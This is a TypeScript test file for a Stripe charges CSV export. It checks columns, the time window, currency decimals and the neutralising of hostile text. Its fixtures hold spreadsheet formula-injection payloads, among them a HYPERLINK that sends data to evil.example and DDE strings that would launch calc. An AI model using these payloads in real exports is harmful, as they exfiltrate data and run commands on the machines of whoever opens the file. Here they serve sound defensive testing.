/**
 * `export charges` (CONTRACT 8): exact columns, the window, currency decimals,
 * and hostile customer-controlled text stored verbatim but exported safely.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { exportCharges } from '../src/stripe/export.js';
import { stripeRig, type StripeRig } from './fixtures/stripe-rig.js';

const rigs: StripeRig[] = [];
after(async () => {
  for (const r of rigs) await r.close();
});

const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/x?d="&A1)',
  plus: '+1+cmd|\' /C calc\'!A0',
  at: '@SUM(1+1)*cmd|"/c calc"!A1',
  dash: '-2+3',
  tab: '\t=1+1',
  lines: 'line one\r\nline "two", with, commas',
  spaced: '  =1+2',
  unicode: 'Zoë 🦊 \u202e‮ reversed',
};

const T0 = Date.parse('2026-11-20T10:00:00.000Z') / 1000;

describe('export charges', () => {
  it('stores hostile text verbatim and exports it neutralised, in a CSV that parses back', async () => {
    const ids: Record<string, string> = {};
    const r = await stripeRig({
      build: (b) => {
        ids.formulaCall = b.addCharge({ created: T0, amount: 1999, callIds: [HOSTILE.formula, 'call_ok'], description: HOSTILE.lines, customer: HOSTILE.at }).id;
        ids.guest = b.addCharge({
          created: T0 + 1,
          amount: 500,
          customer: null,
          customerName: HOSTILE.plus,
          description: HOSTILE.tab,
          metadata: { agentflow_call_id: HOSTILE.dash, note: HOSTILE.unicode, other: HOSTILE.spaced },
        }).id;
      },
    });
    rigs.push(r);
    await r.sync({ since: new Date((T0 - 86_400) * 1000) });

    const row = r.db.sqlite.prepare('SELECT description, metadata_json, customer, call_ids_raw FROM stripe_charges WHERE charge_id = ?');
    const a = row.get(ids.formulaCall) as { description: string; customer: string; call_ids_raw: string };
    assert.equal(a.description, HOSTILE.lines);
    assert.equal(a.customer, HOSTILE.at);
    assert.equal(a.call_ids_raw, `${HOSTILE.formula},call_ok`);
    const g = row.get(ids.guest) as { description: string; metadata_json: string; customer: string };
    assert.equal(g.description, HOSTILE.tab);
    assert.deepEqual(JSON.parse(g.metadata_json), { agentflow_call_id: HOSTILE.dash, note: HOSTILE.unicode, other: HOSTILE.spaced });
    assert.equal(g.customer, null, 'a guest charge has no customer; its billing name stays out of the export');

    const out = join(r.dir, 'charges.csv');
    await exportCharges(r.db, { from: '2026-11-20T00:00:00.000Z', to: '2026-11-21T00:00:00.000Z' }, out);
    const text = readFileSync(out, 'utf8');
    assert.ok(!text.startsWith('\ufeff'));
    const records = parse(text, { columns: true }) as Record<string, string>[];
    assert.equal(records.length, 2);
    const [first, second] = records as [Record<string, string>, Record<string, string>];
    // Sorted, the formula comes first and the cell is neutralised as a whole.
    assert.equal(first.call_ids, `'${HOSTILE.formula};call_ok`);
    assert.equal(first.customer, `'${HOSTILE.at}`);
    assert.equal(second.call_ids, `'${HOSTILE.dash}`);
    assert.equal(second.customer, '');
    assert.ok(!text.includes('calc\'!A0'), 'the billing name is not exported');
    for (const rec of records) {
      for (const [col, cell] of Object.entries(rec)) {
        assert.ok(!/^[ \u00a0]*[=+\-@\t\r]/.test(cell) || /^[-+]?\d+(\.\d+)?$/.test(cell), `${col}: ${cell}`);
      }
    }
  });

  it('has the contract columns, the window from inclusive to exclusive, and each currency its decimals', async () => {
    const r = await stripeRig({
      build: (b) => {
        b.addCharge({ id: 'ch_before', created: T0 - 1, amount: 100 });
        b.addCharge({ id: 'ch_b_usd', created: T0, amount: 123456, currency: 'usd', callIds: ['call_2', 'call_10', 'call_1'] });
        b.addCharge({ id: 'ch_a_jpy', created: T0, amount: 5000, currency: 'jpy', callIds: ['call_y'] });
        b.addCharge({ id: 'ch_eur', created: T0 + 5, amount: 7, currency: 'eur', status: 'failed' });
        b.addCharge({ id: 'ch_kwd', created: T0 + 6, amount: 12345, currency: 'kwd' });
        b.addCharge({ id: 'ch_gbp', created: T0 + 3599, amount: 250, currency: 'gbp' });
        b.addCharge({ id: 'ch_at_to', created: T0 + 3600, amount: 100 });
        b.addRefund('ch_b_usd', { created: T0 + 100, amount: 3456 });
        b.addRefund('ch_a_jpy', { created: T0 + 100 });
      },
    });
    rigs.push(r);
    await r.sync({ since: new Date((T0 - 86_400) * 1000) });
    const out = join(r.dir, 'window.csv');
    const result = await exportCharges(r.db, { from: '2026-11-20T10:00:00.000Z', to: '2026-11-20T11:00:00.000Z' }, out);
    assert.equal(result.rows, 5);
    const text = readFileSync(out, 'utf8');
    const lines = text.split('\r\n');
    assert.equal(lines[0], 'charge_id,created_at,status,currency,amount,amount_captured,amount_refunded,call_ids,payment_intent,customer');
    const records = parse(text, { columns: true }) as Record<string, string>[];
    assert.deepEqual(records.map((x) => x.charge_id), ['ch_a_jpy', 'ch_b_usd', 'ch_eur', 'ch_kwd', 'ch_gbp']);
    const by = new Map(records.map((x) => [x.charge_id, x]));
    assert.deepEqual(
      { ...by.get('ch_b_usd'), payment_intent: undefined },
      {
        charge_id: 'ch_b_usd',
        created_at: '2026-11-20T10:00:00.000Z',
        status: 'succeeded',
        currency: 'usd',
        amount: '1234.56',
        amount_captured: '1234.56',
        amount_refunded: '34.56',
        call_ids: 'call_1;call_10;call_2',
        payment_intent: undefined,
        customer: '',
      },
    );
    assert.match(by.get('ch_b_usd')!.payment_intent!, /^pi_/);
    assert.deepEqual([by.get('ch_a_jpy')!.amount, by.get('ch_a_jpy')!.amount_refunded], ['5000', '5000']);
    assert.deepEqual([by.get('ch_eur')!.status, by.get('ch_eur')!.amount, by.get('ch_eur')!.amount_captured], ['failed', '0.07', '0.00']);
    assert.equal(by.get('ch_kwd')!.amount, '12.345');
    assert.equal(by.get('ch_gbp')!.amount, '2.50');

    // A from part-way through a second excludes that second; a to part-way includes it.
    await exportCharges(r.db, { from: '2026-11-20T10:00:00.500Z', to: '2026-11-20T11:00:00.001Z' }, out);
    const shifted = (parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[]).map((x) => x.charge_id);
    assert.deepEqual(shifted, ['ch_eur', 'ch_kwd', 'ch_gbp', 'ch_at_to']);

    const empty = await exportCharges(r.db, { from: '2020-01-01T00:00:00.000Z', to: '2020-01-02T00:00:00.000Z' }, out);
    assert.equal(empty.rows, 0);
    assert.equal(readFileSync(out, 'utf8'), `${lines[0]}\r\n`);
  });
});
